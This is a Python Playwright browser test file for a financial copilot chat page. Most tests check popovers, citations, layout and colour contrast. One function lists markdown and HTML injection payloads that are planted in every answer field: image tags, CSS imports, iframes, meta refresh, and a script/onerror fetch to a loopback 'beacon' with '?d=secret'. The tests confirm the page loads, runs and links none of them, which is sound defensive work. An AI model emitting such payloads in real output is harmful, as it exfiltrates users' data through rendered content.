"""The page in a real browser, against the real server."""

import json
import os
import shutil
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from copilot.answer import Answer, Segment
from tools.errors import NoData

pytestmark = pytest.mark.browser

Make = Callable[..., Any]
ARGUMENTS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run",
]  # fmt: skip
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective));
"""


@pytest.fixture(scope="session")
def chromium() -> Iterator[Any]:
    path = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chrome")
    if path is None:
        if os.environ.get("CI") == "true":
            pytest.fail("CI needs a Chromium for the browser tests")
        pytest.skip("no Chromium is installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def visit(chromium: Any, serving: Make) -> Iterator[Make]:
    """Open the page for a copilot; console errors and requests to elsewhere fail the test at its end."""
    amiss: list[str] = []
    contexts = []

    def opened(copilot: Any, **view: Any) -> Any:
        url = serving(copilot)
        context = chromium.new_context(viewport={"width": 1000, "height": 800}, **view)
        contexts.append(context)
        page = context.new_page()
        page.add_init_script(WATCH)
        page.on("console", lambda m: amiss.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: amiss.append(str(e)))
        page.on("request", lambda r: amiss.append(r.url) if not r.url.startswith((url, "data:")) else None)
        page.goto(url)
        page.wait_for_selector("#current .welcome")
        return page

    yield opened
    for context in contexts:
        context.close()
    assert amiss == []


def ask(page: Any, question: str) -> None:
    page.fill("#question textarea", question)
    page.keyboard.press("Enter")
    page.wait_for_selector("#current .ending, #current .trouble")


def violations(page: Any) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


def test_a_figure_opens_to_its_proof_by_keyboard_and_closes_again(visit: Make, telling: Make, answer: Answer) -> None:
    page = visit(telling(answer))
    ask(page, "How?")
    page.focus("#current button.figure >> nth=0")
    page.keyboard.press("Enter")
    card = page.locator("#current section.proof:popover-open")

    assert "close[end] / close[base] - 1" in card.inner_text()
    assert "23547.17" in card.inner_text()
    page.keyboard.press("Escape")
    assert card.count() == 0


def test_a_proof_opens_by_click_and_leads_to_the_proofs_it_stands_on(
    visit: Make, telling: Make, answer: Answer
) -> None:
    page = visit(telling(answer))
    ask(page, "How?")
    page.click("#current .said button.figure:has-text('35.12')")
    page.locator("#current section.proof:popover-open button.figure").first.click()

    titles = page.locator("#current section.proof:popover-open h3").all_inner_texts()
    assert sorted(titles) == ["Nasdaq Composite less S&P 500", "Nasdaq Composite price return"]


def test_a_citation_opens_to_its_passage(visit: Make, telling: Make, answer: Answer) -> None:
    page = visit(telling(answer))
    ask(page, "How?")
    page.click("#current button.cite")

    assert (
        page.locator("#current section.source:popover-open mark").inner_text()
        == "balance growth exposure with value sectors"
    )


def test_an_example_and_a_suggestion_ask_themselves(visit: Make, telling: Make, answer: Answer) -> None:
    copilot = telling(answer)
    page = visit(copilot)
    page.click("#current .examples button >> nth=0")
    page.wait_for_selector("#current .ending")
    page.click("#current .next button >> nth=0")
    page.wait_for_selector("#current .asked:has-text('And the S&P 500?')")
    page.wait_for_selector("#current .ending")

    assert [question for question, _, _ in copilot.asked][1] == "And the S&P 500?"
    assert page.locator("#past .turn").count() == 1


def test_an_error_can_be_asked_again(visit: Make, telling: Make, answer: Answer) -> None:
    page = visit(telling(answer, error=NoData("no rows of SPY")))
    ask(page, "How?")

    assert "No rows of SPY." in page.inner_text("#current .trouble")
    assert page.locator("#current .trouble button").inner_text() == "Ask again"


def test_a_brief_is_written_at_the_press_of_a_button(visit: Make, telling: Make, answer: Answer) -> None:
    extra = {"title": "A calm week", "stance": "mixed", "stance_facts": ["F1"], "tags": ["calm"], "sections": []}
    page = visit(telling(answer, brief_answer=replace(answer, kind="brief", extra=extra)))
    page.click("#brief")
    page.wait_for_selector("#current .stance")

    assert page.inner_text("#current .asked") == "A calm week"


def test_a_new_chat_begins_at_the_beginning(visit: Make, telling: Make, answer: Answer) -> None:
    page = visit(telling(answer))
    ask(page, "How?")
    page.click("#new-chat")
    page.wait_for_selector("#current .welcome")

    assert page.locator(".turn").count() == 0


def test_what_was_opened_stays_open_when_the_next_question_comes(visit: Make, telling: Make, answer: Answer) -> None:
    page = visit(telling(answer))
    ask(page, "How?")
    page.click("#current details.steps summary")
    page.fill("#question textarea", "And?")
    page.keyboard.press("Enter")
    page.wait_for_selector("#past details.steps[open]")

    assert page.locator("#past details.steps[open] pre").is_visible()


@pytest.mark.parametrize("question", [None, "How?"])
def test_a_narrow_screen_does_not_scroll_sideways(
    visit: Make, telling: Make, answer: Answer, question: str | None
) -> None:
    page = visit(telling(answer))
    page.set_viewport_size({"width": 360, "height": 740})
    if question:
        ask(page, question)

    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.evaluate("document.querySelector('#ask').getBoundingClientRect().right") <= 360


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_is_readable_in_light_and_dark(visit: Make, telling: Make, answer: Answer, scheme: str) -> None:
    page = visit(telling(answer), color_scheme=scheme)
    ask(page, "How?")

    assert page.evaluate(CONTRAST, "#current, #masthead") >= 4.5
    page.click("#current button.figure >> nth=0")
    assert page.evaluate(CONTRAST, "#current section.proof:popover-open") >= 4.5


CONTRAST = """
(where) => {
  const parts = (c) => { const m = c.match(/[\\d.]+/g).map(Number); return m.length < 4 ? [...m, 1] : m; };
  const channel = (v) => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const ground = (e) => {
    for (; e; e = e.parentElement) {
      const colour = parts(getComputedStyle(e).backgroundColor);
      if (colour[3] === 1) return colour;
    }
    return [255, 255, 255, 1];
  };
  let least = 21;
  for (const root of document.querySelectorAll(where))
    for (const e of root.querySelectorAll("*")) {
      const speaks = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
      if (!speaks || !e.checkVisibility({ visibilityProperty: true })) continue;
      const [a, b] = [light(parts(getComputedStyle(e).color)), light(ground(e))].sort((x, y) => y - x);
      least = Math.min(least, (a + 0.05) / (b + 0.05));
    }
  return least;
}
"""


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server on loopback that remembers what was asked of it."""
    hits: list[str] = []

    class Remember(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Remember)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()


def payloads(at: str) -> list[str]:
    return [
        f"![x]({at}/1?d=secret)",
        f"![x][ref]\n\n[ref]: {at}/2?d=secret",
        f'<img src="{at}/3">',
        f'<img srcset="{at}/4 2x" src="x">',
        f'<picture><source srcset="{at}/5"><img></picture>',
        f'<svg><image href="{at}/6" xlink:href="{at}/6"/></svg>',
        f'<div style="background-image:url({at}/7)">x</div>',
        f"<style>@import url({at}/8); body {{ background: url({at}/8) }}</style>",
        f'<input type="image" src="{at}/9">',
        f'<video poster="{at}/10" src="{at}/10" autoplay></video>',
        f'<audio src="{at}/11" autoplay></audio>',
        f'```mermaid\ngraph TD; A["<img src={at}/12>"]-->B\n```',
        f'<iframe src="{at}/13"></iframe>',
        f'<object data="{at}/14"></object><embed src="{at}/14">',
        f'<link rel="stylesheet" href="{at}/15"><meta http-equiv="refresh" content="0;url={at}/15">',
        f"[click]({at}/16?d=secret) and <{at}/16?d=secret> and {at}/16?d=secret",
        f"<script>window.__pwn = 1</script><img src=x onerror=\"window.__pwn = 1; fetch('{at}/17')\">",
    ]


def poisoned(answer: Answer, text: str) -> Answer:
    facts = json.loads(json.dumps(answer.facts))
    for fact in facts:
        fact["label"] = fact["formula"] = fact["provenance"]["note"] = text
        for entry in fact["inputs"]:
            if "symbol" in entry:
                entry["symbol"] = text
    source = {**answer.citations[0], "title": text, "publisher": text, "locator": text, "quote": text}
    return replace(
        answer,
        segments=(Segment(text), *answer.segments, Segment(text, verdict="unproved", reason=text)),
        facts=tuple(facts),
        citations=(source,),
        passages=({**answer.passages[0], "text": f"{text}\n\n{text}"},),
        steps=({"tool": text, "arguments": {text: text}, "result": text, "seconds": 0.0},),
        suggestions=(text,),
        data=text,
        reading=({**answer.reading[0], "text": text, "notes": [text]},),
    )


@pytest.mark.fault("X2")
@pytest.mark.fault("X3")
def test_nothing_that_a_text_says_is_loaded_run_or_linked(
    visit: Make, telling: Make, answer: Answer, beacon: tuple[str, list[str]]
) -> None:
    at, hits = beacon
    text = "\n\n".join(payloads(at))
    page = visit(telling(poisoned(answer, text), notice=text))
    ask(page, text[:3900])
    page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true")
    for card in page.locator("#current section[popover]").all():
        card.evaluate("(card) => { card.showPopover(); card.hidePopover(); }")
    ask(page, "And again?")

    assert page.evaluate("window.__pwn") is None
    assert hits == []
    assert violations(page) == []
    links = page.eval_on_selector_all("a[href]", "found => found.map(a => a.getAttribute('href'))")
    elsewhere = {link for link in links if not link.startswith("/copilot/answers/")}
    assert elsewhere == {"https://example.com/outlook?year=2026"}


@pytest.mark.fault("X2")
def test_a_saved_page_loads_runs_and_links_nothing_either(
    chromium: Any, answer: Answer, beacon: tuple[str, list[str]]
) -> None:
    from ui.render.html import html

    at, hits = beacon
    page = chromium.new_page()
    page.set_content(html(poisoned(answer, "\n\n".join(payloads(at))).to_json()))
    page.wait_for_load_state("networkidle")

    assert page.evaluate("window.__pwn") is None
    assert hits == []
    assert page.eval_on_selector_all("a[href]", "found => found.length") == 1
    page.close()


@pytest.mark.fault("X2")
def test_the_beacon_would_have_seen_a_request(chromium: Any, beacon: tuple[str, list[str]]) -> None:
    at, hits = beacon
    page = chromium.new_page()
    page.set_content(f'<img src="{at}/seen">')
    page.wait_for_load_state("networkidle")
    page.close()

    assert hits == ["/seen"]


def test_the_policy_stops_what_would_slip_through(chromium: Any, serving: Make, telling: Make, answer: Answer) -> None:
    page = chromium.new_page()
    page.add_init_script(WATCH)
    page.goto(serving(telling(answer)))
    page.wait_for_selector("#current .welcome")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<b id=x onclick=\"window.__pwn = 1\">x</b>')")
    page.evaluate("document.getElementById('x').click()")

    assert page.evaluate("window.__pwn") is None
    assert violations(page) == ["script-src-attr"]
    page.close()
